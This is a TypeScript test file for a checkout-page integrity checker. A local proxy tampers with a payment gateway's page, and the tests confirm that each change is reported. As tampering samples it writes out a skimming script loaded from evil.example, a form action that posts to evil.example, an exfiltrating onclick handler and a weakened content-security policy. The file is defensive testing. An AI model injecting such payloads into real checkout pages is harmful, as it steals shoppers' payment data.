import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { createServer } from 'node:http';
import { type AddressInfo } from 'node:net';
import { join } from 'node:path';
import {
  type BankSimulator,
  type Gateway,
  startBankSimulator,
  startGateway,
} from '@payment-gateway/testkit';

const ROOT = join(__dirname, '../../..');
const SHOP = 'https://shop.example';

let bank: BankSimulator;
let gateway: Gateway;
let page: string;

beforeAll(async () => {
  bank = await startBankSimulator();
  gateway = await startGateway({ env: { BANK_URL: bank.apiUrl } });
  const answer = await fetch(`${gateway.apiUrl}/checkout_sessions`, {
    method: 'POST',
    headers: {
      Authorization: 'Bearer first_merchant_mock_token',
      'Content-Type': 'application/json',
    },
    body: JSON.stringify({
      amount: 1000,
      currency: 'USD',
      description: 'Two bags of coffee',
      return_url: `${SHOP}/paid`,
    }),
  });
  const { url } = (await answer.json()) as { url: string };
  page = new URL(url).pathname;
});

afterAll(async () => {
  await gateway.terminate();
  await bank.terminate();
});

async function checkPages(...args: string[]) {
  const program = join(ROOT, 'packages/toolchain/check-pages.mjs');
  const child = spawn(process.execPath, [program, ...args], { cwd: ROOT });
  let output = '';
  for (const stream of [child.stdout, child.stderr])
    stream.setEncoding('utf8').on('data', (text: string) => (output += text));
  const [code] = (await once(child, 'close')) as [number];
  return { code, output };
}

/** Something between gateway and browser that changes what passes. */
async function startMiddleman(
  change: (html: string) => string,
  headers: Readonly<Record<string, string>> = {},
) {
  const server = createServer((req, res) => {
    void (async () => {
      const answer = await fetch(`${gateway.url}${req.url ?? ''}`, {
        headers: { Accept: '*/*, text/html' },
      });
      const text = await answer.text();
      const kept = [...answer.headers].filter(
        ([name]) =>
          !/^(?:content-length|content-encoding|connection|keep-alive|transfer-encoding)$/.test(
            name,
          ),
      );
      res.writeHead(answer.status, { ...Object.fromEntries(kept), ...headers });
      res.end(answer.headers.get('content-type')?.includes('html') === true ? change(text) : text);
    })();
  });
  await once(server.listen(0, '127.0.0.1'), 'listening');
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}`, stop: () => server.close() };
}

test('A page as the gateway serves it is what the inventory authorizes', async () => {
  expect(await checkPages(`${gateway.url}${page}`, '--shop', SHOP)).toEqual({
    code: 0,
    output: 'The page is as docs/page-inventory.json says (form).\n',
  });
});

test('A proxy that adds harmless headers goes unreported', async () => {
  const middleman = await startMiddleman((html) => html, { via: '1.1 cdn', server: 'cdn' });
  const { code } = await checkPages(`${middleman.url}${page}`, '--shop', SHOP);
  middleman.stop();
  expect(code).toBe(0);
});

test.each<[string, (html: string) => string, Record<string, string>, string[]]>([
  [
    'a script from elsewhere',
    (html) =>
      html.replace('</head>', '<script src="https://evil.example/skim.js"></script></head>'),
    {},
    [
      '+ scripts https://evil.example/skim.js',
      '+ origins https://evil.example',
      '+ element script',
    ],
  ],
  [
    'an event handler',
    (html) => html.replace('<button', "<button onclick='send(this.form)'"),
    {},
    ['+ scripts onclick of button sha256-'],
  ],
  [
    'a form that posts elsewhere',
    (html) => html.replace('<form', '<form action="https://evil.example/"'),
    {},
    ['+ forms POST https://evil.example/ '],
  ],
  [
    'a weaker policy',
    (html) => html,
    { 'content-security-policy': 'default-src *' },
    [
      "- header content-security-policy: default-src 'none'",
      '+ header content-security-policy: default-src *',
    ],
  ],
  ['a cookie', (html) => html, { 'set-cookie': 'visitor=1' }, ['+ header set-cookie: visitor=1']],
])('What a proxy smuggles in is reported: %s', async (_what, change, headers, complaints) => {
  const middleman = await startMiddleman(change, headers);
  const { code, output } = await checkPages(`${middleman.url}${page}`, '--shop', SHOP);
  middleman.stop();
  expect(code).toBe(1);
  expect(output).toMatch(/^form:\n/);
  for (const complaint of complaints) expect(output).toContain(`  ${complaint}`);
});
